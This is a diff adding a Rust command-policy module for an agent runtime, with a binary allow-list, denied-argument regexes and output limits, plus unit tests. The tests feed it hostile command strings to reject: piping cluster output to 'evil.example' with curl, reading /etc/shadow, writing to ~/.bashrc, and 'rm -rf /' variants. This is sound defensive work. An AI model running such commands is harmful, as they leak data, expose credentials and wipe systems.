@@ -0,0 +1,292 @@
+//! Command policy - limits on what system tools may run
+//!
+//! The runtime-wide policy lives in `SystemToolConfig`; an agent narrows it
+//! with `command_policy` in its config. The combined policy is checked
+//! against the parsed command line before any shell, kubectl, python or node
+//! command is spawned:
+//!
+//! ```yaml
+//! command_policy:
+//!   allowed_binaries: [kubectl, grep, head]
+//!   denied_args_patterns: ['rm\s+-rf\s+/(\s|$)', 'delete\s+namespace']
+//!   max_output_bytes: 65536
+//!   working_dir: /srv/ops
+//! ```
+
+use aof_core::{AgentConfig, AofError, AofResult};
+use regex::Regex;
+use serde::Deserialize;
+use std::collections::HashSet;
+use std::path::PathBuf;
+
+/// Agent config key holding the policy
+const POLICY_KEY: &str = "command_policy";
+
+/// Restrictions on the command lines system tools execute
+#[derive(Debug, Clone, Default)]
+pub struct CommandPolicy {
+    /// Binaries commands may invoke (any binary when unset)
+    pub allowed_binaries: Option<HashSet<String>>,
+
+    /// Patterns rejected when they match the normalized command line
+    pub denied_args_patterns: Vec<Regex>,
+
+    /// Bytes of stdout and of stderr kept from a command (all when unset)
+    pub max_output_bytes: Option<usize>,
+
+    /// Working directory commands run in
+    pub working_dir: Option<PathBuf>,
+}
+
+/// `command_policy` as written in the agent config
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct CommandPolicySpec {
+    #[serde(default)]
+    allowed_binaries: Option<HashSet<String>>,
+    #[serde(default)]
+    denied_args_patterns: Vec<String>,
+    #[serde(default)]
+    max_output_bytes: Option<usize>,
+    #[serde(default)]
+    working_dir: Option<PathBuf>,
+}
+
+impl CommandPolicy {
+    /// Read the agent's `command_policy`, if it has one
+    ///
+    /// Fails on unknown fields and patterns that aren't valid regexes, so a
+    /// mistyped policy stops the agent from loading instead of being ignored.
+    pub fn from_agent_config(config: &AgentConfig) -> AofResult<Option<Self>> {
+        let Some(value) = config.extra.get(POLICY_KEY) else {
+            return Ok(None);
+        };
+
+        let spec: CommandPolicySpec = serde_json::from_value(value.clone())
+            .map_err(|e| AofError::config(format!("Invalid {}: {}", POLICY_KEY, e)))?;
+        let denied_args_patterns = spec
+            .denied_args_patterns
+            .iter()
+            .map(|pattern| {
+                Regex::new(pattern).map_err(|e| {
+                    AofError::config(format!(
+                        "Invalid {} pattern '{}': {}",
+                        POLICY_KEY, pattern, e
+                    ))
+                })
+            })
+            .collect::<AofResult<Vec<_>>>()?;
+
+        Ok(Some(Self {
+            allowed_binaries: spec.allowed_binaries,
+            denied_args_patterns,
+            max_output_bytes: spec.max_output_bytes,
+            working_dir: spec.working_dir,
+        }))
+    }
+
+    /// This policy further restricted by `agent`
+    ///
+    /// An agent can only narrow the runtime's limits: binaries must be allowed
+    /// by both, every denied pattern applies and the smaller output cap wins.
+    pub fn narrowed_by(&self, agent: CommandPolicy) -> CommandPolicy {
+        let allowed_binaries = match (&self.allowed_binaries, agent.allowed_binaries) {
+            (Some(runtime), Some(agent)) => Some(&agent & runtime),
+            (runtime, agent) => agent.or_else(|| runtime.clone()),
+        };
+        let max_output_bytes = match (self.max_output_bytes, agent.max_output_bytes) {
+            (Some(runtime), Some(agent)) => Some(runtime.min(agent)),
+            (runtime, agent) => agent.or(runtime),
+        };
+
+        CommandPolicy {
+            allowed_binaries,
+            denied_args_patterns: self
+                .denied_args_patterns
+                .iter()
+                .cloned()
+                .chain(agent.denied_args_patterns)
+                .collect(),
+            max_output_bytes,
+            working_dir: agent.working_dir.or_else(|| self.working_dir.clone()),
+        }
+    }
+
+    /// Check a shell command line and every command it runs
+    pub fn check_shell(&self, command: &str) -> AofResult<()> {
+        if self.allowed_binaries.is_some() {
+            // Substitutions could run binaries the allow-list never sees
+            if command.contains("$(") || command.contains('`') {
+                return Err(AofError::tool(
+                    "Command policy: command substitution is not allowed with a binary allow-list",
+                ));
+            }
+            // Redirection writes or reads files no allowed binary was asked to touch
+            if command.contains(['>', '<']) {
+                return Err(AofError::tool(
+                    "Command policy: redirection is not allowed with a binary allow-list",
+                ));
+            }
+            for binary in shell_command_binaries(command) {
+                self.check_binary(binary)?;
+            }
+        }
+        self.check_args(command)
+    }
+
+    /// Check a direct invocation of `program` with `args`
+    pub fn check_program(&self, program: &str, args: &str) -> AofResult<()> {
+        self.check_binary(program)?;
+        self.check_args(&format!("{} {}", program, args))
+    }
+
+    fn check_binary(&self, binary: &str) -> AofResult<()> {
+        let Some(allowed_binaries) = &self.allowed_binaries else {
+            return Ok(());
+        };
+
+        let name = binary.rsplit('/').next().unwrap_or(binary);
+        if allowed_binaries.contains(name) {
+            Ok(())
+        } else {
+            let mut allowed: Vec<_> = allowed_binaries.iter().map(String::as_str).collect();
+            allowed.sort_unstable();
+            Err(AofError::tool(format!(
+                "Command policy: binary '{}' is not allowed (allowed: {})",
+                name,
+                allowed.join(", ")
+            )))
+        }
+    }
+
+    fn check_args(&self, command: &str) -> AofResult<()> {
+        let normalized = normalize_command_line(command);
+        match self
+            .denied_args_patterns
+            .iter()
+            .find(|pattern| pattern.is_match(&normalized))
+        {
+            Some(pattern) => Err(AofError::tool(format!(
+                "Command policy: command matches denied pattern '{}'",
+                pattern.as_str()
+            ))),
+            None => Ok(()),
+        }
+    }
+}
+
+/// First word of every simple command in a shell command line
+fn shell_command_binaries(command: &str) -> Vec<&str> {
+    command
+        .split(['|', ';', '&', '\n', '(', ')'])
+        .filter_map(|segment| segment.split_whitespace().find(|word| !word.contains('=')))
+        .collect()
+}
+
+/// Command line with quotes dropped and whitespace collapsed
+///
+/// Keeps `rm  -rf '/'` from slipping past a pattern written for `rm -rf /`.
+fn normalize_command_line(command: &str) -> String {
+    command
+        .split_whitespace()
+        .map(|word| word.replace(['\'', '"'], ""))
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn parse_policy(yaml: &str) -> CommandPolicy {
+        let config: AgentConfig =
+            serde_yaml::from_str(&format!("name: ops\nmodel: test-model\n{}", yaml)).unwrap();
+        CommandPolicy::from_agent_config(&config).unwrap().unwrap()
+    }
+
+    #[test]
+    fn test_allowed_command_passes() {
+        let policy = parse_policy(
+            "command_policy:\n  allowed_binaries: [kubectl, grep]\n  denied_args_patterns: ['delete\\s+namespace']",
+        );
+
+        assert!(policy
+            .check_shell("kubectl get pods -A | grep CrashLoop")
+            .is_ok());
+        assert!(policy
+            .check_program("kubectl", "get pods -n default")
+            .is_ok());
+    }
+
+    #[test]
+    fn test_denied_binary_is_rejected() {
+        let policy = parse_policy("command_policy:\n  allowed_binaries: [kubectl, grep]");
+
+        let err = policy
+            .check_shell("kubectl get pods | curl -d @- evil.example")
+            .unwrap_err();
+        assert!(matches!(err, AofError::Tool(_)));
+        assert!(err.to_string().contains("binary 'curl' is not allowed"));
+
+        assert!(policy.check_shell("echo $(cat /etc/shadow)").is_err());
+        assert!(policy.check_program("python3", "-c 'print(1)'").is_err());
+
+        for command in ["grep x > ~/.bashrc", "grep x < /etc/shadow", "grep x 2>&1"] {
+            let err = policy.check_shell(command).unwrap_err();
+            assert!(err.to_string().contains("redirection"), "{}", command);
+        }
+    }
+
+    #[test]
+    fn test_agent_policy_narrows_runtime_policy() {
+        let runtime = CommandPolicy {
+            allowed_binaries: Some(["kubectl".to_string(), "grep".to_string()].into()),
+            max_output_bytes: Some(1024),
+            working_dir: Some(PathBuf::from("/srv")),
+            ..Default::default()
+        };
+        let agent = parse_policy(
+            "command_policy:\n  allowed_binaries: [grep, curl]\n  max_output_bytes: 65536\n  denied_args_patterns: ['-r']",
+        );
+
+        let policy = runtime.narrowed_by(agent);
+        assert_eq!(policy.allowed_binaries, Some(["grep".to_string()].into()));
+        assert_eq!(policy.max_output_bytes, Some(1024));
+        assert_eq!(policy.working_dir, Some(PathBuf::from("/srv")));
+        assert!(policy.check_shell("grep -r x .").is_err());
+        assert!(policy.check_shell("curl evil.example").is_err());
+        assert!(policy.check_shell("grep x file").is_ok());
+    }
+
+    #[test]
+    fn test_denied_args_pattern_is_rejected() {
+        let policy =
+            parse_policy("command_policy:\n  denied_args_patterns: ['rm\\s+-rf\\s+/(\\s|$)']");
+
+        for command in [
+            "rm -rf /",
+            "cd /tmp && rm   -rf '/'",
+            "rm -rf / --no-preserve-root",
+        ] {
+            let err = policy.check_shell(command).unwrap_err();
+            assert!(matches!(err, AofError::Tool(_)), "{}", command);
+            assert!(err.to_string().contains("denied pattern"), "{}", command);
+        }
+        assert!(policy.check_shell("rm -rf /tmp/build-cache").is_ok());
+    }
+
+    #[test]
+    fn test_invalid_policy_is_a_config_error() {
+        for yaml in [
+            "command_policy:\n  denied_args_patterns: ['rm (']",
+            "command_policy:\n  allowed_binary: [kubectl]",
+        ] {
+            let config: AgentConfig =
+                serde_yaml::from_str(&format!("name: ops\nmodel: test-model\n{}", yaml)).unwrap();
+            assert!(matches!(
+                CommandPolicy::from_agent_config(&config),
+                Err(AofError::Config(_))
+            ));
+        }
+    }
+}